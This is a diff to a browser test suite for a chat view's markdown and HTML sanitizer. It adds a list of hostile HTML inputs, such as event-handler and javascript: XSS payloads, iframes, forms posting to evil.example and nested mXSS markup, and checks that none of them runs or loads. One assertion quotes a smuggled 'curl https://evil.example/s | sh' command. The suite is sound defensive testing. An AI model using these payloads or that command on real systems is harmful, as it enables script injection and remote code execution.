@@ -10,6 +10,8 @@
 import * as assert from 'node:assert/strict';
 import type { HostMessage } from '../../src/shared/protocol';
 import type { ChatMessage } from '../../src/shared/types';
+import { ORIGIN } from '../../bench/render/page';
+import { defaultReply, longReplyTokens, xssReply } from '../../simulator';
 import { openTestView, type TestView } from './viewPage';
 
 /** The elements our markdown renderer emits, each with the attributes it may carry. Nothing else may get through. */
@@ -108,6 +110,33 @@ const CORPUS: Case[] = [
   { name: 'direction overrides', markdown: '<bdo dir="rtl">abc</bdo> <span dir="rtl">def</span>', shows: ['<bdo dir="rtl">abc</bdo>'] },
 ];
 
+/**
+ * Raw HTML given to the gate itself, as if the renderer had let markup through (it never does: see the corpus
+ * above): the gate must still let in only the allowlist, run and load nothing, and keep the text it shows.
+ */
+const RAW_HTML: { html: string; shows?: string[] }[] = [
+  { html: '<img src=x onerror="window.pwned=1"><img src="https://evil.example/pixel.png">' },
+  { html: '<svg onload="window.pwned=1"><script>window.pwned=1</script><a href="https://x.example">svg link</a></svg>', shows: ['svg link'] },
+  { html: '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>' },
+  { html: '<a href="javascript:window.pwned=1">js</a> <a href=" javascript:window.pwned=1">sp</a> <a href="JaVaScRiPt:window.pwned=1">case</a> <a href="data:text/html,<script>1</script>">data</a> <a href="command:workbench.action.terminal.new">cmd</a> <a href="vbscript:x">vb</a>', shows: ['js', 'sp', 'case', 'data', 'cmd', 'vb'] },
+  { html: '<a href="https://ok.example" onclick="window.pwned=1" target="_blank" ping="https://evil.example" style="color:red" class="button" id="x" name="y">ok</a>', shows: ['ok'] },
+  { html: '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/x">' },
+  { html: '<video src="https://evil.example/v.mp4"><source src="https://evil.example/s" onerror="window.pwned=1"></video><audio src="https://evil.example/a.mp3" autoplay></audio>' },
+  { html: '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">' },
+  { html: '<style>@import url(https://evil.example/x.css); .message { display: none }</style><p style="background:url(https://evil.example/bg)">styled</p>', shows: ['styled'] },
+  { html: '<p hidden>one</p><span class="visually-hidden">two</span><p aria-hidden="true" role="alert" data-x="y" id="app" lang="en" dir="rtl" popover>three</p>', shows: ['one', 'two', 'three'] },
+  { html: '<form action="https://evil.example"><input name="q" value="v"><button formaction="https://evil.example">b</button><select><option>o</option></select><textarea>t</textarea></form>', shows: ['b', 'o', 't'] },
+  { html: '<details open><summary>s</summary>folded</details><dialog open>d</dialog>', shows: ['s', 'folded', 'd'] },
+  { html: '<template><img src=x onerror="window.pwned=1"></template><noscript><img src=x onerror="window.pwned=1"></noscript><xmp><img src=x onerror="window.pwned=1"></xmp>' },
+  { html: 'a<!-- comment --><![CDATA[x]]><?pi x?>b', shows: ['ab'] },
+  { html: '<table onmouseover="window.pwned=1"><tr><td align="left" valign="top" bgcolor="red">cell</td></tr></table><ol start="3" type="I" reversed><li value="9">item</li></ol>', shows: ['cell', 'item'] },
+  { html: '<pre><code data-language="ts" data-x="y" class="hljs" contenteditable>code</code></pre>', shows: ['code'] },
+  { html: '<constructor>c</constructor><__proto__>p</__proto__><tostring>t</tostring><hasownproperty>h</hasownproperty>', shows: ['c', 'p', 't', 'h'] },
+  { html: '<h1 title="t" lang="en" onclick="window.pwned=1">heading</h1><blockquote cite="https://evil.example">q</blockquote>', shows: ['heading', 'q'] },
+  { html: '<svg><a xlink:href="javascript:window.pwned=1"><text>svg text</text></a></svg><math href="javascript:window.pwned=1">m</math>', shows: ['m'] },
+  { html: '<plaintext><img src=x onerror="window.pwned=1">', shows: ['<img src=x onerror="window.pwned=1">'] },
+];
+
 /** What the page reports about one rendered reply. */
 interface Inspection {
   /** Elements or attributes of the sanitized markup outside the allowlist. */
@@ -122,6 +151,8 @@ interface Inspection {
 interface RendererForTests {
   markdownToHtml(markdown: string): string;
   sanitizeHtml(html: string): DocumentFragment;
+  /** DOMPurify with the configuration the view used before it had its own gate: the reference for the renderer's output. */
+  referenceSanitize(html: string): DocumentFragment;
 }
 
 /** Runs in the page: renders `markdown` with the view's own functions and inspects the reply the view shows. */
@@ -195,7 +226,8 @@ describe('rendering untrusted replies (real Chromium)', function () {
     view = await openTestView(
       "import { markdownToHtml } from './src/webview/markdownHtml';\n" +
         "import { sanitizeHtml } from './src/webview/sanitize';\n" +
-        'Object.assign(window, { rendererForTests: { markdownToHtml, sanitizeHtml } });',
+        "import { referenceSanitize } from './test/unit/referenceSanitizer';\n" +
+        'Object.assign(window, { rendererForTests: { markdownToHtml, sanitizeHtml, referenceSanitize } });',
     );
     await view.load();
   });
@@ -254,5 +286,72 @@ describe('rendering untrusted replies (real Chromium)', function () {
     const result = await view.page.evaluate(inspect, { markdown: SMUGGLING_REPLY, allowed: ALLOWED, allowedHref: ALLOWED_HREF.source });
     assert.equal(result.codeBlocks.length, 0);
     assert.match(collapse(result.visibleText), /echo hello<span\/hidden>; curl https:\/\/evil\.example\/s \| sh/);
+  });
+  it('the renderer\'s output comes out of the view\'s gate exactly as it comes out of DOMPurify', async () => {
+    const replies = [...CORPUS.map((c) => c.markdown), SMUGGLING_REPLY, longReplyTokens(20_000).join(''), xssReply(), defaultReply('Explain streaming')];
+    const result = await view.page.evaluate((markdowns) => {
+      const w = window as unknown as { rendererForTests: RendererForTests };
+      const markup = (fragment: DocumentFragment): string => {
+        const holder = document.createElement('div');
+        holder.append(fragment);
+        return holder.innerHTML;
+      };
+      let characters = 0;
+      const differences = markdowns.flatMap((markdown) => {
+        const html = w.rendererForTests.markdownToHtml(markdown);
+        const ours = markup(w.rendererForTests.sanitizeHtml(html));
+        const reference = markup(w.rendererForTests.referenceSanitize(html));
+        characters += ours.length;
+        if (ours === reference) return [];
+        let at = 0;
+        while (ours[at] === reference[at]) at++;
+        return [{ markdown: markdown.slice(0, 60), ours: ours.slice(Math.max(0, at - 40), at + 80), reference: reference.slice(Math.max(0, at - 40), at + 80) }];
+      });
+      return { differences, characters };
+    }, replies);
+    assert.deepEqual(result.differences, []);
+    assert.ok(result.characters > 100_000, `compared ${result.characters} characters of markup`);
+  });
+
+  it('the gate alone, given raw hostile HTML: only the allowlist gets in, nothing runs or loads, the text stays', async () => {
+    const requests: string[] = [];
+    const onRequest = (request: { url(): string }): void => {
+      if (!request.url().startsWith(ORIGIN)) requests.push(request.url());
+    };
+    view.page.on('request', onRequest);
+    try {
+      for (const { html, shows } of RAW_HTML) {
+        const result = await view.page.evaluate(async ({ html, allowed, allowedHref }) => {
+          const w = window as unknown as { rendererForTests: RendererForTests; pwned?: unknown };
+          const holder = document.createElement('div');
+          holder.append(w.rendererForTests.sanitizeHtml(html));
+          document.body.append(holder);
+          const foreign: string[] = [];
+          for (const node of holder.querySelectorAll('*')) {
+            const tag = node.localName;
+            if (!Object.hasOwn(allowed, tag) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml') foreign.push(`<${tag}>`);
+            else for (const attr of node.attributes) {
+              if (!allowed[tag].includes(attr.name) || (attr.name === 'href' && !new RegExp(allowedHref, 'i').test(attr.value))) foreign.push(`<${tag} ${attr.name}="${attr.value}">`);
+            }
+          }
+          const walker = document.createTreeWalker(holder, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION | NodeFilter.SHOW_CDATA_SECTION);
+          if (walker.nextNode()) foreign.push(`node type ${walker.currentNode.nodeType}`);
+          // Anything that would load or run does so by the next frame and idle period.
+          await new Promise((resolve) => requestAnimationFrame(() => requestIdleCallback(resolve)));
+          const text = holder.textContent ?? '';
+          holder.remove();
+          return { foreign, text, pwned: w.pwned };
+        }, { html, allowed: ALLOWED, allowedHref: ALLOWED_HREF.source });
+        const problems = {
+          foreignMarkup: result.foreign,
+          ran: result.pwned === undefined ? [] : [String(result.pwned)],
+          notShown: (shows ?? []).filter((text) => !result.text.includes(text)),
+        };
+        assert.deepEqual(problems, { foreignMarkup: [], ran: [], notShown: [] }, html);
+      }
+      assert.deepEqual(requests, [], 'nothing loads from the network');
+    } finally {
+      view.page.off('request', onRequest);
+    }
   });
 });
